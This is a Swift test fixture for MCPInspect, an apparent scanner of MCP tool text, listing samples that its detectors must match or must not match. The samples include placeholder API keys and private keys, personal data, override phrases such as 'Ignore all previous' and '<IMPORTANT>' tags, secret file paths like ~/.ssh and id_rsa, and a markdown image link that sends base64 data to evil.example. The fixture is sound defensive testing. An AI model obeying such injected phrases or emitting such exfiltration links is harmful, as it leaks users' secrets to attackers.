import MCPInspect

/// One sample per detector (and several for some): the text and the part of it the
/// detector must match.
struct Sample: CustomStringConvertible {
    var detector: DetectorID
    var text: String
    var match: String
    init(_ detector: DetectorID, _ text: String, match: String? = nil) {
        self.detector = detector
        self.text = text
        self.match = match ?? text
    }
    var description: String { "\(detector): \(text)" }
}

/// A base64 run of 320 characters, from a fixed seed.
let base64Sample: String = {
    var generator = SplitMix64(seed: 42)
    let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    return String((0..<320).map { _ in alphabet[Int(generator.next() % 64)] })
}()

let truePositives: [Sample] = [
    Sample(.awsAccessKeyID, "AKIAIOSFODNN7EXAMPLE"),
    Sample(.awsAccessKeyID, "ASIAY34FZKBOKMUTVV7A"),
    Sample(
        .awsSecretAccessKey, "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        match: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    Sample(.githubToken, "ghp_1234567890abcdefghijklmnopqrstuvwxyz"),
    Sample(.githubToken, "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTU"),
    Sample(.gitlabToken, "glpat-AbCdEfGhIjKlMnOpQrSt"),
    Sample(.slackToken, "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
    Sample(.stripeKey, "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    Sample(.stripeKey, "rk_test_51H8abcdefGHIJKLmnopQRST"),
    Sample(.googleAPIKey, "AIzaSyA-1234567890abcdefghijklmnopqrstu"),
    Sample(.openAIKey, "sk-proj-abcdefghij1234567890ABCDEFGHIJ1234567890"),
    Sample(.anthropicKey, "sk-ant-api03-abcdefghij1234567890ABCDEFGHIJ1234567890_xyz-AA"),
    Sample(
        .privateKey,
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1234567890abcdefGHIJKL\nqrstuvWXYZ0987654321==\n-----END RSA PRIVATE KEY-----"
    ),
    Sample(
        .privateKey, "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"),
    Sample(
        .jwt,
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
    Sample(.genericSecret, "password=Xk9#mP2vL7qR4nTz", match: "Xk9#mP2vL7qR4nTz"),
    Sample(.genericSecret, "client_secret: \"q8Z2r7Lk1Wm4Yt6Pd9Fs3\"", match: "q8Z2r7Lk1Wm4Yt6Pd9Fs3"),
    Sample(.bearerToken, "Authorization: Bearer abcDEF123456ghiJKL789012mno", match: "abcDEF123456ghiJKL789012mno"),
    Sample(.email, "alice.smith+test@example.co.uk"),
    Sample(.phoneNumber, "+1 415 555 2671"),
    Sample(.phoneNumber, "+44 20 7946 0958"),
    Sample(.phoneNumber, "(415) 555-2671"),
    Sample(.phoneNumber, "415-555-2671"),
    Sample(.cardNumber, "4111 1111 1111 1111"),
    Sample(.cardNumber, "5500-0000-0000-0004"),
    Sample(.cardNumber, "378282246310005"),
    Sample(.iban, "DE89 3704 0044 0532 0130 00"),
    Sample(.iban, "GB82WEST12345698765432"),
    Sample(.usSSN, "123-45-6789"),
    Sample(.instructionTag, "<IMPORTANT>"),
    Sample(.instructionTag, "</system>"),
    Sample(.instructionPhrase, "Ignore all previous"),
    Sample(.instructionPhrase, "do not tell"),
    Sample(.instructionPhrase, "Before using this tool"),
    Sample(.secretPath, "~/.ssh"),
    Sample(.secretPath, ".env"),
    Sample(.secretPath, "mcp.json"),
    Sample(.secretPath, "id_rsa"),
    Sample(.invisibleUnicode, "\u{200B}"),
    Sample(.invisibleUnicode, "\u{202E}\u{2066}"),
    Sample(.invisibleUnicode, "\u{E0041}\u{E0042}\u{E0043}"),
    Sample(.invisibleUnicode, "\u{FEFF}"),
    Sample(.invisibleUnicode, "\u{E000}"),
    Sample(.invisibleUnicode, "\u{F0001}"),
    Sample(.controlCharacter, "\u{1B}[31;1m"),
    Sample(.controlCharacter, "\u{1B}]0;title\u{07}"),
    Sample(.controlCharacter, "\u{07}"),
    Sample(.controlCharacter, "\u{85}"),
    Sample(
        .markdownExfiltration, "![img](https://evil.example/collect?data=c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLWVub3VnaA)",
        match: "https://evil.example/collect?data=c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLWVub3VnaA"),
    Sample(.base64Blob, base64Sample),
]

/// Text that no detector may match: code, identifiers, hashes, images, prose.
let falsePositives: [String] = [
    """
    import Foundation

    @MainActor
    final class TokenStore {
        private var tokens: [String: String] = [:]
        func token(for key: String) -> String? { tokens[key] }
        let password: String = ""
        let apiKey = configuration.apiKey
        func skip(_ count: Int) { offset += count }  // task-42
    }
    """,
    """
    def get_secret(name: str) -> str:
        token = os.environ.get("API_TOKEN")
        password = getpass.getpass()
        if password == secret:
            return None
        print(f"user {user.id} at {time.time()}")
    """,
    "550e8400-e29b-41d4-a716-446655440000 123E4567-E89B-12D3-A456-426614174000",
    "commit 3f786850e387550fdab836ed7e6dc881de23001b and sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "Version 2.14.3 released on 2025-11-25 at 10:42:07Z; build 1732540000000; port 8080; IPv4 192.168.1.20",
    "Order #1234567890123456 of 42 items, total 1234.56 EUR; ISO 8601 and RFC 3339.",
    """
    The weather was pleasant before using the umbrella. Do not hesitate to ask; we ignore case
    when comparing names. Disregard formatting. Forget it. She said "don't worry" and left at 5 pm.
    Contact us on the website. Read the system documentation in <section> and <b>bold</b>.
    """,
    "{\"id\": 17, \"method\": \"tools/call\", \"params\": {\"name\": \"add\", \"arguments\": {\"a\": 1, \"b\": 2}}}",
    "See [the docs](https://docs.example.com/guide?page=2) and ![logo](https://cdn.example.com/logo.png).",
    "Flags: 🏴󠁧󠁢󠁳󠁣󠁴󠁿 and family 👨‍👩‍👧 and café, naïve — “quotes” … done.",
    "icon@2x.png and git tag v1.0; email me at the office; user@localhost",
    "process.env.NODE_ENV and config.environment and skip_list and desk-top",
]
